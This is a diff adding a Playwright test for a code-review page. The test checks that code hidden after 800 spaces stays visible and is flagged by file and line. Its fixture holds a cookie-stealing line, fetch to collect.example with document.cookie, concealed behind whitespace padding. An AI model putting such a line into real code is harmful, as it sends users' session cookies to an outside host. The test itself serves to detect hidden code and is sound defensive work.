@@ -438,3 +438,59 @@ test('the review page works at 360 px: no horizontal scroll, no serious accessib
   expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
   await noSeriousViolations(page);
 });
+
+test('code after 800 spaces stays in view on the card, and the card names the file and line', async ({
+  ownerPage: page,
+  request,
+}) => {
+  const roomId = await newRoom(request, `Hidden code ${Date.now()}`);
+  const line = `export default function App() { return <p>Clean</p>; }${' '.repeat(800)}fetch('https://collect.example/?' + document.cookie);`;
+  const data = Array.from({ length: 80 }, (_, i) => `export const v${i} = ${i};`).join('\n');
+  await propose(request, roomId, 'Clean app', { 'src/App.tsx': `${line}\n`, 'src/data.ts': `${data}\n` });
+  await page.goto(`/rooms/${roomId}/review`);
+  const card = page.getByRole('article', { name: 'Clean app' });
+  await expect(card.getByText('Long lines or long runs of blanks in src/App.tsx (line 1)')).toBeVisible();
+  await card.getByText('Review all proposed files (2)').click();
+  const box = card.getByRole('region', { name: 'src/App.tsx source' });
+  await expect(box.locator('td.hljs').first()).toBeVisible();
+  await expect(card.getByText(`Line 1: ${line.length} characters, 800 spaces`)).toBeVisible();
+  await expect(box.locator('mark.blank-run[title="800 spaces"]')).toHaveText('800 spaces');
+  await expect(box.locator('.line-no.flagged')).toHaveText(['1']);
+  // Geometry: the fetch is inside the code box and the card as drawn, with no horizontal scroll.
+  const seen = await box.evaluate((el) => {
+    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
+    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
+      const at = n.textContent?.indexOf('fetch') ?? -1;
+      if (at < 0) continue;
+      const range = document.createRange();
+      range.setStart(n, at);
+      range.setEnd(n, at + 'fetch'.length);
+      const rect = (r: DOMRect) => ({ left: r.left, right: r.right, top: r.top, bottom: r.bottom });
+      return {
+        text: rect(range.getBoundingClientRect()),
+        box: rect(el.getBoundingClientRect()),
+        card: rect((el.closest('article') as HTMLElement).getBoundingClientRect()),
+        overflowX: el.scrollWidth - el.clientWidth,
+      };
+    }
+    return undefined;
+  });
+  expect(seen).toBeDefined();
+  const { text, box: area, card: article, overflowX } = seen as NonNullable<typeof seen>;
+  expect(overflowX).toBeLessThanOrEqual(0);
+  for (const outer of [area, article]) {
+    expect(text.left).toBeGreaterThanOrEqual(outer.left);
+    expect(text.right).toBeLessThanOrEqual(outer.right);
+    expect(text.top).toBeGreaterThanOrEqual(outer.top);
+    expect(text.bottom).toBeLessThanOrEqual(outer.bottom);
+  }
+  // What sits below a file's box is said in words until the reviewer scrolls to the end.
+  const data81 = card.getByRole('region', { name: 'File src/data.ts' });
+  await expect(data81.getByText('More below: scroll the box to read all 81 lines.')).toBeVisible();
+  await expect(card.getByRole('region', { name: 'File src/App.tsx' }).getByText(/More below/)).toHaveCount(0);
+  await data81.getByRole('region', { name: 'src/data.ts source' }).evaluate((el) => {
+    el.scrollTop = el.scrollHeight;
+  });
+  await expect(data81.getByText(/More below/)).toHaveCount(0);
+  await page.screenshot({ path: 'test-results/hidden-code-card.png', fullPage: false });
+});
